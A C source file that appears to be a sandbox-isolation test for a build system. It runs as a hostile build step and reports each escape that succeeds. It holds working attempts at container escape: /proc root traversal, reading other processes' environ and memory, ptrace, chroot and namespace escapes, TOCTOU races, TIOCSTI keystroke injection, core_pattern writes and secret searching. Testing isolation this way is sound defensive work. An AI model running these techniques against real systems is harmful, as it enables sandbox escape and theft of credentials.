/* What a hostile step tries. Prints one line for each thing that it should not have got: `HIT` what it read, `DID` what it
   did. Told by its environment: TARGETS, paths outside of the step, separated by colons, which hold a marker; VICTIMS,
   files outside to be changed; SOCKET, a local stream socket outside that says a marker; PID, a number of the builder's;
   READY and DONE, files to wait for and to make. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* Backwards, so that this program itself does not hold them. */
static const char *BACKWARDS[] = {"hsifdrows", "dop-eht-fo-nekot-eht"};
static int tried;
static char *targets[16], *victims[16];
static int target_count, victim_count;
static const char *attack = "";
static pid_t starter;

static int has_marker(const char *text, long length) {
    for (unsigned m = 0; m < sizeof BACKWARDS / sizeof *BACKWARDS; m++) {
        long n = strlen(BACKWARDS[m]);
        for (long at = 0; at + n <= length; at++) {
            long i = 0;
            while (i < n && text[at + i] == BACKWARDS[m][n - 1 - i]) i++;
            if (i == n) return 1;
        }
    }
    return 0;
}

static void say(const char *word, const char *what) {
    printf("%s %s: %s\n", word, attack, what);
    fflush(stdout);
}

static void read_fd(int fd, const char *what) {
    static __thread char text[65536];
    long got = 0, n;
    while (got < (long)sizeof text && (n = read(fd, text + got, sizeof text - got)) > 0) got += n;
    if (has_marker(text, got)) say("HIT", what);
}

static void read_at(int dir, const char *path) {
    tried++;
    int fd = openat(dir, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return;
    read_fd(fd, path);
    close(fd);
}

static void change(const char *path, int whole) {
    tried++;
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd >= 0) {
        if (write(fd, "changed", 7) == 7) say("DID", path);
        close(fd);
    }
    struct timespec times[2] = {{1, 0}, {1, 0}};
    if (truncate(path, 0) == 0 || chmod(path, 0) == 0 || utimensat(AT_FDCWD, path, times, 0) == 0
        || chown(path, 1, 1) == 0 || setxattr(path, "user.x", "x", 1, 0) == 0) say("DID", path);
    if (whole && (rename(path, "/tmp/stolen") == 0 || unlink(path) == 0)) say("DID", path);
}

/* All targets and victims below a directory that may be the pod's. */
static void below(const char *root) {
    char path[4096];
    for (int i = 0; i < target_count; i++) {
        snprintf(path, sizeof path, "%s%s", root, targets[i]);
        read_at(AT_FDCWD, path);
    }
    for (int i = 0; i < victim_count; i++) {
        snprintf(path, sizeof path, "%s%s", root, victims[i]);
        change(path, 1);
    }
}

/* The same relative to an open directory. */
static void below_fd(int fd) {
    for (int i = 0; i < target_count; i++) {
        char path[4096] = "";
        for (int up = 0; up < 24; up++) strcat(path, "../");
        strcat(path, targets[i] + 1);
        read_at(fd, path);
        read_at(fd, targets[i] + 1);
    }
}

/* In a child, so that what it does to itself goes with it. */
static void apart(void (*what)(void)) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        alarm(60);
        what();
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, 0, 0);
}

static void by_path(void) {
    attack = "path";
    below("");
    below("/..");
    below("/../../../../../../../..");
    below("/proc/self/root");
    below("/proc/self/cwd");
    below("/proc/thread-self/root/..");
    below("/proc/self/task/../../1/root");
    below("/dev/fd/../../root");
    below("//proc//.//1///root");
}

static void by_link(void) {
    attack = "link";
    const char *roots[] = {"/proc/1/root", "/proc/self/root/..", "../../../../../../proc/1/cwd", "/", "/proc/self/fd/0"};
    for (unsigned i = 0; i < sizeof roots / sizeof *roots; i++) {
        unlink("/tmp/x");
        if (symlink(roots[i], "/tmp/x") == 0) below("/tmp/x");
    }
    for (int i = 0; i < target_count; i++) {
        char path[4096];
        unlink("/tmp/x");
        if (symlink(targets[i], "/tmp/x") == 0) read_at(AT_FDCWD, "/tmp/x");
        snprintf(path, sizeof path, "/proc/1/root%s", targets[i]);
        const char *ways[] = {targets[i], path, "/tmp/x"};
        for (unsigned w = 0; w < 3; w++) {
            tried++;
            unlink("/tmp/hard");
            if (linkat(AT_FDCWD, ways[w], AT_FDCWD, "/tmp/hard", AT_SYMLINK_FOLLOW) == 0) read_at(AT_FDCWD, "/tmp/hard");
            unlink("/tmp/hard");
            if (rename(ways[w], "/tmp/hard") == 0) read_at(AT_FDCWD, "/tmp/hard");
        }
    }
    unlink("/tmp/x");
    unlink("/tmp/hard");
}

static int visible(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d", pid);
    return access(path, F_OK) == 0;
}

/* A process that is none of this program's. */
static void foreign(pid_t pid) {
    char path[4096];
    const char *files[] = {"environ", "cmdline", "mem", "maps", "auxv", "stack", "task/../environ", "map_files", "cwd/.", "exe"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        read_at(AT_FDCWD, path);
    }
    snprintf(path, sizeof path, "/proc/%d/task/%d/environ", pid, pid);
    read_at(AT_FDCWD, path);
    for (int fd = 0; fd < 24; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        tried++;
        int opened = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (opened < 0) continue;
        struct stat found;
        if (fstat(opened, &found) == 0 && S_ISREG(found.st_mode)) read_fd(opened, path);
        if (S_ISDIR(found.st_mode)) below_fd(opened);
        close(opened);
    }
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    below(path);
    snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../../../..", pid);
    below(path);
    for (int m = 0; m < 2; m++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, m ? "root" : "cwd");
        int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir >= 0) below_fd(dir);
        if (dir >= 0) close(dir);
    }
    tried++;
    char bytes[64];
    struct iovec local = {bytes, sizeof bytes}, remote = {(void *)0x400000, sizeof bytes};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) snprintf(path, sizeof path, "read %d", pid), say("DID", path);
    tried++;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) snprintf(path, sizeof path, "trace %d", pid), say("DID", path);
    int fd = syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; fd >= 0 && number < 8; number++) {
        tried++;
        int taken = syscall(SYS_pidfd_getfd, fd, number, 0);
        if (taken >= 0) snprintf(path, sizeof path, "descriptor %d of %d", number, pid), say("DID", path);
    }
    if (fd >= 0) close(fd);
    /* The first of a pid namespace is there for its own processes, and cannot be killed by them. */
    if (pid == 1 && starter <= 1) return;
    tried++;
    struct rlimit limit;
    if (kill(pid, 0) == 0 || prlimit(pid, RLIMIT_NOFILE, 0, &limit) == 0 || syscall(SYS_tkill, pid, 0) == 0
        || setpriority(PRIO_PROCESS, pid, 19) == 0) snprintf(path, sizeof path, "signal %d", pid), say("DID", path);
}

static void by_process(void) {
    attack = "process";
    pid_t parent = getppid();
    char path[64];
    if (starter > 1) foreign(starter);
    foreign(1);
    int builder = atoi(getenv("PID") ? getenv("PID") : "0");
    for (int pid = builder; builder > 0 && pid < builder + 40; pid++)
        if (pid != parent && pid != getpid() && !(visible(pid) && pid >= parent)) foreign(pid);
    for (int pid = 2; pid < 64; pid++)
        if (pid != parent && pid != getpid() && !visible(pid)) foreign(pid);
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == parent || pid == getpid()) continue;
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        read_at(AT_FDCWD, path);
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        read_at(AT_FDCWD, path);
    }
}

/* Who gets SIGIO can be given any signal. The kernel ignores the upper half of the command. */
static void by_owner(void) {
    attack = "owner";
    int builder = atoi(getenv("PID") ? getenv("PID") : "0");
    if (builder <= 1 || visible(builder)) return;
    int ends[2];
    for (int wide = 0; wide < 2; wide++) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends)) return;
        tried++;
        syscall(SYS_fcntl, ends[0], (long)F_SETOWN | (wide ? 1L << 32 : 0), (long)builder);
        syscall(SYS_fcntl, ends[0], (long)F_SETSIG, (long)SIGKILL);
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        if (write(ends[1], "x", 1) != 1) return;
        struct f_owner_ex owner = {F_OWNER_PID, builder};
        fcntl(ends[0], F_SETOWN_EX, &owner);
        if (write(ends[1], "x", 1) != 1) return;
        ioctl(ends[0], 0x8901 /* FIOSETOWN */, &builder);
        if (write(ends[1], "x", 1) != 1) return;
    }
}

static void by_descriptor(void) {
    attack = "descriptor";
    char what[64];
    for (int fd = 3; fd < 4096; fd++) {
        tried++;
        struct stat found;
        if (fstat(fd, &found)) continue;
        snprintf(what, sizeof what, "%d is open", fd);
        say("DID", what);
        if (S_ISDIR(found.st_mode)) below_fd(fd);
        else if (S_ISREG(found.st_mode)) read_fd(fd, what);
    }
    /* By another way than they were opened. */
    for (int fd = 0; fd < 3; fd++) {
        snprintf(what, sizeof what, "/dev/fd/%d/../../../..", fd);
        below(what);
        below_fd(fd);
    }
    const char *kept[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/ctx/file", "/sys/kernel/uevent_helper",
                          "/proc/sysrq-trigger"};
    for (unsigned i = 0; i < sizeof kept / sizeof *kept; i++) {
        tried++;
        int fd = open(kept[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        const char *links[] = {"/proc/self/fd/%d", "/dev/fd/%d", "/proc/thread-self/fd/%d"};
        for (unsigned l = 0; l < 3; l++) {
            snprintf(what, sizeof what, links[l], fd);
            int again = open(what, O_WRONLY);
            if (again >= 0) say("DID", kept[i]);
            if (again >= 0) close(again);
            if (truncate(what, 0) == 0) say("DID", kept[i]);
        }
        struct timespec times[2] = {{1, 0}, {1, 0}};
        int flags = 0x40 /* FS_NODUMP_FL */;
        if (futimens(fd, times) == 0 || fchmod(fd, 0777) == 0 || fchown(fd, 1, 1) == 0 || ftruncate(fd, 0) == 0
            || fsetxattr(fd, "user.x", "x", 1, 0) == 0 || ioctl(fd, 0x40086602, &flags) == 0
            || syscall(SYS_linkat, fd, "", AT_FDCWD, "/tmp/kept", AT_EMPTY_PATH) == 0) say("DID", kept[i]);
        close(fd);
    }
}

static void by_chroot(void) {
    attack = "chroot";
    mkdir("/tmp/jail", 0755);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    tried++;
    if (chroot("/tmp/jail") == 0) {
        if (fchdir(here) == 0) {
            for (int i = 0; i < 64; i++) (void)!chdir("..");
            for (int i = 0; i < target_count; i++) read_at(AT_FDCWD, targets[i] + 1);
            if (chroot(".") == 0) below("");
        }
        below_fd(here);
    }
}

/* A directory handed to a process with another root. */
static void by_message(void) {
    attack = "message";
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends)) return;
    tried++;
    int dir = open("/", O_RDONLY | O_DIRECTORY);
    char space[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *control = CMSG_FIRSTHDR(&message);
    control->cmsg_level = SOL_SOCKET, control->cmsg_type = SCM_RIGHTS, control->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(control), &dir, sizeof dir);
    if (sendmsg(ends[0], &message, 0) != 1) return;
    close(dir);
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail")) return;
    message.msg_controllen = sizeof space;
    if (recvmsg(ends[1], &message, 0) != 1 || !CMSG_FIRSTHDR(&message)) return;
    memcpy(&dir, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof dir);
    below_fd(dir);
    if (fchdir(dir) == 0)
        for (int i = 0; i < 64; i++) (void)!chdir("..");
    for (int i = 0; i < target_count; i++) read_at(AT_FDCWD, targets[i] + 1);
}

static void mounts(void) {
    mkdir("/tmp/m", 0755);
    tried++;
    if (mount("/proc/1/root", "/tmp/m", 0, MS_BIND | MS_REC, 0) == 0) below("/tmp/m");
    if (mount("proc", "/tmp/m", "proc", 0, 0) == 0) {
        below("/tmp/m/1/root");
        char path[64];
        for (int pid = 1; pid < 300; pid++) {
            snprintf(path, sizeof path, "/tmp/m/%d/environ", pid);
            read_at(AT_FDCWD, path);
        }
    }
    int tree = syscall(SYS_open_tree, AT_FDCWD, "/proc/1/root", 1 /* OPEN_TREE_CLONE */);
    if (tree >= 0) below_fd(tree);
    if (syscall(SYS_pivot_root, ".", ".") == 0) below("");
    const char *places[] = {"/proc", "/sys", "/dev", "/etc/hosts", "/", "/", "/"};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        if (umount2(places[i], MNT_DETACH) == 0) below("");
        below("/proc/self/root");
    }
    const char *names[] = {"user", "mnt", "pid", "net"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        char path[64];
        for (int own = 0; own < 2; own++) {
            snprintf(path, sizeof path, own ? "/proc/self/ns/%s" : "/proc/1/ns/%s", names[i]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0 && setns(fd, 0) == 0) below(""), below("/..");
        }
    }
}

static void by_mount(void) {
    attack = "mount";
    mounts();
}

static void by_namespace(void) {
    attack = "namespace";
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) mounts();
    else if (unshare(CLONE_NEWNS) == 0) mounts();
    else if (syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) == 0) {
        (void)!unshare(CLONE_NEWNS);
        mounts();
        _exit(0);
    }
}

static void by_handle(void) {
    attack = "handle";
    struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, "/", &handle.head, &mount_id, 0)) return;
    int here = open("/", O_RDONLY | O_DIRECTORY);
    for (unsigned inode = 0; inode < 64; inode++) {
        tried++;
        memcpy(handle.bytes, &inode, sizeof inode);
        int fd = open_by_handle_at(here, &handle.head, O_RDONLY);
        if (fd >= 0) say("DID", "opened"), below_fd(fd), close(fd);
    }
}

/* Races: what is judged is not what is used. */
static char flipped[4096];
static volatile int stop;
static char *outside;

static void *flip_path(void *unused) {
    for (unsigned i = 0; !stop; i++) {
        memcpy(flipped, i & 1 ? outside : "/tmp/inside", i & 1 ? strlen(outside) + 1 : 12);
        if ((i & 63) == 0) sched_yield();
    }
    return unused;
}

static void *flip_link(void *unused) {
    char there[4096];
    snprintf(there, sizeof there, "/proc/1/root%s", outside);
    for (unsigned i = 0; !stop; i++) {
        (void)!symlink(i & 1 ? there : "/tmp/inside", "/tmp/next");
        (void)!rename("/tmp/next", "/tmp/flip");
    }
    return unused;
}

static void *flip_directory(void *unused) {
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "/tmp/deep/a/b", AT_FDCWD, "/tmp/flat", 2 /* RENAME_EXCHANGE */);
    return unused;
}

static void race(void *(*flip)(void *), const char *path, int turns) {
    pthread_t thread;
    stop = 0;
    if (pthread_create(&thread, 0, flip, 0)) return;
    for (int i = 0; i < turns; i++) {
        read_at(AT_FDCWD, path);
        if (i % 16 == 0) {
            struct stat found;
            (void)!stat(path, &found);
            if (victim_count && i % 64 == 0) truncate(victims[0], 0);
        }
    }
    stop = 1;
    pthread_join(thread, 0);
}

static int ours, theirs, number;

static void *flip_number(void *unused) {
    for (unsigned i = 0; !stop; i++) dup2(i & 1 ? ours : theirs, number);
    return unused;
}

/* A descriptor that is one's own when it is judged, and one of the builder's file when it is opened. */
static void by_reopening(void) {
    attack = "reopening";
    theirs = open("/ctx/file", O_RDONLY);
    if (theirs < 0) return;
    mkfifo("/tmp/fifo", 0666);
    int kinds[2] = {open("/tmp/own", O_RDWR | O_CREAT, 0666), open("/tmp/fifo", O_RDWR)};
    for (int k = 0; k < 2; k++) {
        ours = kinds[k];
        number = dup(ours);
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", number);
        pthread_t thread;
        stop = 0;
        if (pthread_create(&thread, 0, flip_number, 0)) return;
        struct stat wanted, found;
        fstat(theirs, &wanted);
        for (int i = 0; i < 2000; i++) {
            tried++;
            int fd = open(path, O_WRONLY | O_NONBLOCK);
            if (fd >= 0 && fstat(fd, &found) == 0 && found.st_ino == wanted.st_ino && found.st_dev == wanted.st_dev)
                say("DID", "opened to be written");
            if (fd >= 0) close(fd);
            struct timespec times[2] = {{1, 0}, {1, 0}};
            if (i % 8 == 0) truncate(path, 0), fchmod(number, 0600), futimens(number, times);
        }
        stop = 1;
        pthread_join(thread, 0);
    }
    unlink("/tmp/fifo");
}

/* What the user's shell is going to read. */
static void by_terminal(void) {
    attack = "terminal";
    for (long high = 0; high < 2; high++) {
        tried++;
        if (syscall(SYS_ioctl, 0L, 0x5412L | high << 32 /* TIOCSTI */, "x") == 0) say("DID", "typed");
    }
}

static void by_race(void) {
    attack = "race";
    if (!target_count) return;
    close(open("/tmp/inside", O_CREAT | O_WRONLY, 0644));
    outside = targets[target_count - 1];
    strcpy(flipped, "/tmp/inside");
    race(flip_path, flipped, 3000);
    race(flip_link, "/tmp/flip", 1500);
    mkdir("/tmp/deep", 0755), mkdir("/tmp/deep/a", 0755), mkdir("/tmp/deep/a/b", 0755), mkdir("/tmp/flat", 0755);
    mkdir("/tmp/deep/a/b/c", 0755), mkdir("/tmp/flat/c", 0755);
    char path[4096] = "/tmp/deep/a/b/c/../../../../../../../../..";
    strcat(path, outside);
    race(flip_directory, path, 1500);
    /* The program that is started. */
    strcpy(flipped, "/tmp/inside");
}

static int flipping, inet_side, unix_side;

static void *flip_descriptor(void *unused) {
    for (unsigned i = 0; !stop; i++) dup2(i & 1 ? inet_side : unix_side, flipping);
    return unused;
}

static void greet(int fd, const char *what) {
    struct pollfd wanted = {fd, POLLIN, 0};
    if (poll(&wanted, 1, 200) > 0) read_fd(fd, what);
    say("DID", what);
}

static void by_socket(void) {
    attack = "socket";
    const char *name = getenv("SOCKET");
    if (!name) return;
    const char *prefixes[] = {"", "/proc/1/root", "/proc/self/root/..", "/tmp/s"};
    for (unsigned i = 0; i < 4; i++) {
        for (int kind = SOCK_STREAM; kind <= SOCK_DGRAM; kind++) {
            tried++;
            struct sockaddr_un address = {AF_UNIX, ""};
            snprintf(address.sun_path, sizeof address.sun_path, "%s%s", prefixes[i], name);
            if (i == 3) unlink("/tmp/s"), (void)!symlink(name, "/tmp/s"), strcpy(address.sun_path, "/tmp/s");
            int fd = socket(AF_UNIX, kind, 0);
            if (fd < 0) continue;
            if (kind == SOCK_STREAM && connect(fd, (void *)&address, sizeof address) == 0) greet(fd, name);
            if (kind == SOCK_DGRAM && sendto(fd, "x", 1, 0, (void *)&address, sizeof address) == 1) say("DID", name);
            struct iovec part = {"x", 1};
            struct msghdr message = {&address, sizeof address, &part, 1, 0, 0, 0};
            if (kind == SOCK_DGRAM && sendmsg(fd, &message, 0) == 1) say("DID", name);
            /* A socket of one's own, outside. */
            strcat(address.sun_path, ".made");
            (void)!bind(fd, (void *)&address, sizeof address);
            close(fd);
        }
    }
    /* The descriptor is another one when the kernel looks. */
    struct sockaddr_un address = {AF_UNIX, ""};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", name);
    struct sockaddr_un made = address;
    strcat(made.sun_path, ".raced");
    pthread_t thread;
    stop = 0;
    inet_side = socket(AF_INET, SOCK_STREAM, 0);
    unix_side = socket(AF_UNIX, SOCK_STREAM, 0);
    flipping = dup(inet_side);
    if (unix_side < 0 || pthread_create(&thread, 0, flip_descriptor, 0)) return;
    for (int i = 0; i < 2000; i++) {
        tried++;
        if (connect(flipping, (void *)&address, sizeof address) == 0) {
            greet(flipping, "by a race");
            break;
        }
        if (i % 4 == 0) (void)!bind(flipping, (void *)&made, sizeof made);
    }
    stop = 1;
    pthread_join(thread, 0);
    char byte;
    if (recv(unix_side, &byte, 1, MSG_DONTWAIT) == 1) say("DID", "connected by a race");
}

/* Something that crashes leaves its memory nowhere outside. */
static void by_core(void) {
    attack = "core";
    struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &limit);
    tried++;
    abort();
}

static int look_into(const char *path, const struct stat *found, int type, struct FTW *where) {
    (void)where;
    if (!strncmp(path, "/proc/", 6) || !strncmp(path, "/sys/", 5)) return FTW_SKIP_SUBTREE;
    if (type == FTW_F && S_ISREG(found->st_mode) && found->st_size < 1 << 20) read_at(AT_FDCWD, path);
    return FTW_CONTINUE;
}

/* Secrets of steps before this one. */
static void by_search(void) {
    attack = "search";
    nftw("/", look_into, 32, FTW_PHYS | FTW_ACTIONRETVAL);
    extern char **environ;
    for (char **entry = environ; *entry; entry++)
        if (has_marker(*entry, strlen(*entry))) say("HIT", "environment");
    read_at(AT_FDCWD, "/proc/self/environ");
    read_at(AT_FDCWD, "/proc/self/mountinfo");
    read_at(AT_FDCWD, "/proc/self/maps");
    read_at(AT_FDCWD, "/proc/net/unix");
}

static void await(const char *path) {
    for (int i = 0; path && i < 300 && access(path, F_OK); i++) usleep(100000);
}

static int split(const char *name, char **into) {
    char *all = getenv(name) ? strdup(getenv(name)) : 0;
    int count = 0;
    for (char *part = all ? strtok(all, ":") : 0; part && count < 16; part = strtok(0, ":")) into[count++] = part;
    return count;
}

int main(int argc, char **argv) {
    (void)argv;
    if (argc > 1) {
        by_terminal();
        printf("tried %d\n", tried);
        return 0;
    }
    target_count = split("TARGETS", targets);
    victim_count = split("VICTIMS", victims);
    /* Whoever runs the step. */
    starter = getppid();
    signal(SIGPIPE, SIG_IGN);
    by_descriptor();
    await(getenv("READY"));
    void (*attacks[])(void) = {by_path, by_link, by_process, by_owner, by_chroot, by_message, by_mount, by_namespace,
                               by_handle, by_race, by_reopening, by_terminal, by_socket, by_core, by_search};
    for (unsigned i = 0; i < sizeof attacks / sizeof *attacks; i++) apart(attacks[i]);
    if (getenv("DONE")) close(open(getenv("DONE"), O_CREAT | O_WRONLY, 0644));
    printf("all of %d kinds tried, %d by the program itself\n", (int)(sizeof attacks / sizeof *attacks) + 1, tried);
    return 0;
}
